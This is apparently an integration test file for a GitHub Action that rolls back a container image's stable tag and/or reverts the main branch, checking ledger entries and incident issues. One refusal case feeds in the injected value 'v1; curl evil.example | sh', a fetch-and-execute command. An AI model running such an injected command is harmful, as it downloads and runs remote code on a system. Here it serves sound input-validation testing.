/**
 * actions/manual-rollback run as the runner runs dist/manual-rollback/index.js, on a real registry, a bare git
 * remote and the GitHub stand-in: what (image, main, both) × to (previous, a version, a full sha, a short sha,
 * a digest), through both methods, with the ledger entries and the incident rollback.yml's jobs made, and a
 * `to` that names nothing refused before anything moves.
 */
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { fingerprintLabel } from '../../src/core/incident/fingerprint.js';
import { decodeMarker } from '../../src/core/incident/state.js';
import { parseLedger } from '../../src/core/ledger/parse.js';
import type { LedgerEntry } from '../../src/core/ledger/types.js';
import { readActionYml } from '../support/action-yml.js';
import { git } from '../support/git-fixture.js';
import { runAction, type RunResult } from '../support/harness.js';
import { LEDGER, OWNER, REPO, TOKEN, startPromoteWorld, type PromoteWorld } from '../support/promote-world.js';

const T = 300_000;
const OUTPUTS = Object.keys(readActionYml('manual-rollback').outputs ?? {}).sort();
const FINGERPRINT = 'ci-cd rollback main';
const LABEL = fingerprintLabel(FINGERPRINT);
type Method = 'api' | 'git';

/** Builds A, B and C promoted (A hand-labelled v1.0.0 in the ledger), then D pushed on main: it broke main. */
interface Story {
  w: PromoteWorld;
  c: Record<'A' | 'B' | 'C' | 'D', string>;
  d: Record<'A' | 'B' | 'C', string>;
}

async function story(): Promise<Story> {
  const w = await startPromoteWorld();
  const c = {} as Story['c'];
  const d = {} as Story['d'];
  for (const [name, kind] of [['A', 'oci-index'], ['B', 'docker-manifest'], ['C', 'oci-index']] as const) {
    c[name] = await w.remote.commit({ 'app.txt': `app ${name}\n` }, `build ${name}`);
    d[name] = (await w.candidate(kind, c[name])).digest;
    const r = await w.promote({ source: c[name] }, { sha: c[name] });
    expect(r.code, r.stdout).toBe(0);
  }
  // A person labels build A's entry with its release (hand edits are the ledger's normal life).
  const text = (await w.ledger())!;
  await git(w.remote.work, ['pull', '-q', 'origin', 'main']);
  const labelled = text.replace(`Commit: ${c.A}\n`, `Commit: ${c.A}\nVersion: v1.0.0\n`);
  expect(labelled).not.toBe(text);
  await w.remote.commit({ [LEDGER]: `${labelled}\n` }, 'ledger: A is v1.0.0 [skip ci]');
  c.D = await w.remote.commit({ 'app.txt': 'app D (broken)\n' }, 'D breaks the app');
  return { w, c, d };
}

async function rollback(s: Story, inputs: Record<string, string>, method: Method = 'api'): Promise<RunResult> {
  const head = await s.w.remote.head();
  const workspace = method === 'git' ? await s.w.remote.clone(`ws-${Math.random().toString(36).slice(2)}`, { depth: 50 }) : undefined;
  return runAction('manual-rollback', {
    inputs: { image: s.w.image, fingerprint: FINGERPRINT, method, ...inputs },
    event: { inputs: { what: inputs.what, to: inputs.to, reason: inputs.reason }, ref: 'refs/heads/main' },
    github: { sha: head, token: TOKEN, repository: `${OWNER}/${REPO}`, ref: 'refs/heads/main', actor: 'dana' },
    ...(workspace ? { workspace } : {}),
    env: {
      GITHUB_API_URL: s.w.standin.url,
      GITHUB_SERVER_URL: s.w.standin.serverUrl,
      GITHUB_REPOSITORY: `${OWNER}/${REPO}`,
      GITHUB_REF: 'refs/heads/main',
      GITHUB_EVENT_NAME: 'workflow_dispatch',
      GITHUB_WORKFLOW: 'rollback',
      GITHUB_JOB: 'rollback',
      GITHUB_RUN_ID: '777',
    },
  });
}

const entries = async (s: Story): Promise<LedgerEntry[]> => parseLedger((await s.w.ledger()) ?? '').entries;
const view = (es: LedgerEntry[]) => es.map((e) => ({ status: e.status, commit: e.commit, ...(e.digest ? { digest: e.digest } : {}) }));
const issues = (s: Story) => [...s.w.standin.state.issues.values()].filter((i) => !i.pull);
/** Everything the rollback could move: the tags, every git ref, the issues. */
async function state(s: Story) {
  return { stable: await s.w.tagDigest('stable'), latest: await s.w.tagDigest('latest'), refs: await s.w.remote.refs(), issues: issues(s).length };
}
const tree = (s: Story, ref: string) => git(s.w.remote.bare, ['show', `${ref}:app.txt`]);

describe('manual-rollback', () => {
  let s: Story;
  beforeEach(async () => {
    s = await story();
  }, T);
  afterEach(async () => {
    await s?.w.stop();
  });

  /** The image's part: :stable and :latest on the build, the git tag stable on its commit, one ⏪ entry. */
  async function expectImageAt(r: RunResult, build: 'A' | 'B', before: LedgerEntry[]) {
    expect(r.outputs).toMatchObject({ 'stable-digest': s.d[build], 'stable-commit': s.c[build], 'previous-digest': s.d.C, tags: 'stable,latest' });
    expect(await s.w.tagDigest('stable')).toBe(s.d[build]);
    expect(await s.w.tagDigest('latest')).toBe(s.d[build]);
    expect((await s.w.remote.refs())['refs/tags/stable']).toBe(s.c[build]);
    const added = (await entries(s)).slice(before.length);
    expect(view(added).filter((e) => e.status === 'restored')).toEqual([{ status: 'restored', commit: s.c[build], digest: s.d[build] }]);
    expect(added.find((e) => e.status === 'restored')).toMatchObject({ replaced: s.d.C });
  }

  function expectIncident(r: RunResult, restored: string, lines: RegExp[]) {
    expect(r.outputs).toMatchObject({ 'issue-number': '1', operation: 'created', 'restored-sha': restored });
    const [issue] = issues(s);
    expect(issue!.labels).toContain(LABEL);
    expect(decodeMarker(issue!.body, LABEL, '')).toMatchObject({ kind: 'rollback', restored });
    for (const line of lines) expect(issue!.body).toMatch(line);
  }

  it.each([
    ['previous', (): string => 'previous', 'B'],
    ['a version', (): string => 'v1.0.0', 'A'],
    ['a full sha', (): string => s.c.A, 'A'],
    ['a short sha', (): string => s.c.B.slice(0, 9), 'B'],
    ['a digest', (): string => s.d.A, 'A'],
  ] as const)('what=image to=%s: :stable and :latest back, ⏪ Restored, main’s code untouched, the rollback incident', async (_name, to, build) => {
    const before = await entries(s);
    const head = await s.w.remote.head();
    const r = await rollback(s, { what: 'image', to: to(), reason: 'bad deploy' });
    expect(r.code, r.stdout).toBe(0);
    expect(Object.keys(r.outputs).sort()).toEqual(OUTPUTS);
    await expectImageAt(r, build, before);
    expect(r.outputs).toMatchObject({ 'main-outcome': 'skipped', reverted: 'false', 'revert-sha': '' });
    // main only got the ledger commit on top: its code is still D's.
    expect(await git(s.w.remote.bare, ['rev-parse', 'refs/heads/main^'])).toBe(head);
    expect(await tree(s, 'refs/heads/main')).toBe('app D (broken)');
    expectIncident(r, s.c[build], [/Manual rollback of \*\*image\*\*/, /requested by dana/, /Reason: bad deploy/, new RegExp(`:stable moved from .${s.d.C}. to .${s.d[build]}.`)]);
  }, T);

  for (const method of ['api', 'git'] as const) {
    it.each([
      ['previous', (): string => 'previous', 'C'],
      ['a version', (): string => 'v1.0.0', 'A'],
      ['a full sha', (): string => s.c.B, 'B'],
      ['a short sha', (): string => s.c.A.slice(0, 7), 'A'],
      ['a digest', (): string => s.d.B, 'B'],
    ] as const)(`what=main (${method}) to=%s: a [skip ci] revert to the build's tree, :stable untouched, the incident`, async (_name, to, build) => {
      const stable = await s.w.tagDigest('stable');
      const head = await s.w.remote.head();
      const r = await rollback(s, { what: 'main', to: to(), reason: 'D broke it' }, method);
      expect(r.code, r.stdout).toBe(0);
      expect(r.outputs).toMatchObject({ 'main-outcome': 'reverted', reverted: 'true', 'target-sha': s.c[build], 'stable-digest': '', tags: '' });
      const newHead = await s.w.remote.head();
      expect(r.outputs['revert-sha']).toBe(newHead);
      expect(await git(s.w.remote.bare, ['merge-base', '--is-ancestor', head, newHead]).then(() => true)).toBe(true);
      expect(await tree(s, newHead)).toBe(`app ${build}`);
      expect(await git(s.w.remote.bare, ['log', '-1', '--format=%B', newHead])).toMatch(/⏪ Manual rollback: Manual rollback: D broke it[\s\S]*\[skip ci\][\s\S]*Greenline-Revert-Of: /);
      expect(await s.w.tagDigest('stable')).toBe(stable);
      expectIncident(r, s.c[build], [/Manual rollback of \*\*main\*\*/, new RegExp(`main reverted: .${newHead}.`)]);
    }, T);

    it(`what=both (${method}) to=previous: main to the build :stable goes to, then :stable; both recorded, one incident`, async () => {
      const before = await entries(s);
      const r = await rollback(s, { what: 'both', to: 'previous', reason: 'C and D are bad' }, method);
      expect(r.code, r.stdout).toBe(0);
      await expectImageAt(r, 'B', before);
      expect(r.outputs).toMatchObject({ reverted: 'true', 'target-sha': s.c.B });
      expect(await tree(s, 'refs/heads/main')).toBe('app B');
      expectIncident(r, s.c.B, [/Manual rollback of \*\*both\*\*/, /:stable moved from/, /main reverted: /]);
    }, T);
  }

  it.each([
    ['a full sha', (): string => s.c.A, 'A'],
    ['a short sha', (): string => s.c.A.slice(0, 8), 'A'],
    ['a version', (): string => 'v1.0.0', 'A'],
    ['a digest', (): string => s.d.B, 'B'],
  ] as const)('what=both to=%s: main and :stable on the same build', async (_name, to, build) => {
    const before = await entries(s);
    const r = await rollback(s, { what: 'both', to: to(), reason: 'back to a known build' });
    expect(r.code, r.stdout).toBe(0);
    await expectImageAt(r, build, before);
    expect(await tree(s, 'refs/heads/main')).toBe(`app ${build}`);
    expect(r.outputs['restored-sha']).toBe(s.c[build]);
  }, T);

  it('what=both when main’s head is the promoted build: the build main leaves is marked ⛔ Rolled back, :stable ⏪ Restored below it', async () => {
    const dD = (await s.w.candidate('oci-index', s.c.D)).digest;
    expect((await s.w.promote({ source: s.c.D }, { sha: s.c.D })).code).toBe(0);
    const before = await entries(s);
    const r = await rollback(s, { what: 'both', to: 'previous', reason: 'D is bad in production' });
    expect(r.code, r.stdout).toBe(0);
    expect(r.outputs).toMatchObject({ reverted: 'true', 'target-sha': s.c.C, 'stable-digest': s.d.C, 'previous-digest': dD, 'restored-sha': s.c.C });
    expect(await tree(s, 'refs/heads/main')).toBe('app C');
    // auto-revert's entries, as rollback.yml's main job wrote them (⛔ the build left, ✅ again the build restored,
    // for the seed's one-liner), then promote-to-stable's ⏪.
    expect(view((await entries(s)).slice(before.length))).toEqual([
      { status: 'rolled-back', commit: s.c.D, digest: dD },
      { status: 'passed', commit: s.c.C, digest: s.d.C },
      { status: 'restored', commit: s.c.C, digest: s.d.C },
    ]);
    expect(decodeMarker(issues(s)[0]!.body, LABEL, '')).toMatchObject({ kind: 'rollback', restored: s.c.C });
  }, T);

  it.each([
    ['image', 'v9.9.9', /^Input "to": ledger:v9\.9\.9: no good entry/],
    ['both', 'f'.repeat(40), /^Input "to": ledger:f{40}: no good entry/],
    ['main', 'deadbeef', /^Input "to": ledger:deadbeef: no good entry/],
    ['image', `sha256:${'e'.repeat(64)}`, /^Input "to": ledger:sha256:e{64}: no good entry/],
    ['both', 'sha256:short', /^Input "to": "sha256:short" is not an image digest/],
    ['image', 'v1; curl evil.example | sh', /^Input "to": .* must be previous, a version, a commit sha/],
    ['sideways', 'previous', /^Input "what": must be one of image, main, both/],
    ['main', 'previous', /^Input "reason": is required/],
  ])('what=%s to=%j is refused with one line naming the input; nothing moves', async (what, to, message) => {
    const before = await state(s);
    const ledger = await s.w.ledger();
    const r = await rollback(s, { what, to, reason: message.source.includes('reason') ? '' : 'x' });
    expect(r.code).toBe(1);
    expect(r.errors).toEqual([expect.stringMatching(message)]);
    expect(await state(s)).toEqual(before);
    expect(await s.w.ledger()).toBe(ledger);
  }, T);

  it('a short sha that starts two commits in the ledger is refused as ambiguous; nothing moves', async () => {
    // Two builds whose commits share a prefix: find one by writing commits until the first hex digit repeats.
    const text = (await s.w.ledger())!;
    const prefix = s.c.A.slice(0, 7);
    const twin = `${prefix}${'0'.repeat(33)}`;
    await git(s.w.remote.work, ['pull', '-q', 'origin', 'main']);
    await s.w.remote.commit({ [LEDGER]: `${text}\n### ✅ ${prefix} · 2024-01-01T00:00:00Z\nCommit: ${twin}\nStatus: ✅ Tests Passed\nImage: ${s.w.image}@${s.d.B}\n` }, 'ledger: hand entry [skip ci]');
    const before = await state(s);
    const r = await rollback(s, { what: 'image', to: prefix, reason: 'x' });
    expect(r.code).toBe(1);
    expect(r.errors).toEqual([expect.stringMatching(new RegExp(`^Input "to": ${prefix} is ambiguous`))]);
    expect(await state(s)).toEqual(before);
  }, T);

  it('dry-run: says what would move, changes nothing', async () => {
    const before = await state(s);
    const r = await rollback(s, { what: 'both', to: 'previous', reason: 'drill', 'dry-run': 'true' });
    expect(r.code, r.stdout).toBe(0);
    expect(r.outputs).toMatchObject({ 'stable-digest': s.d.B, 'main-outcome': 'dry-run', reverted: 'false', 'issue-number': '' });
    expect(await state(s)).toEqual(before);
  }, T);
});
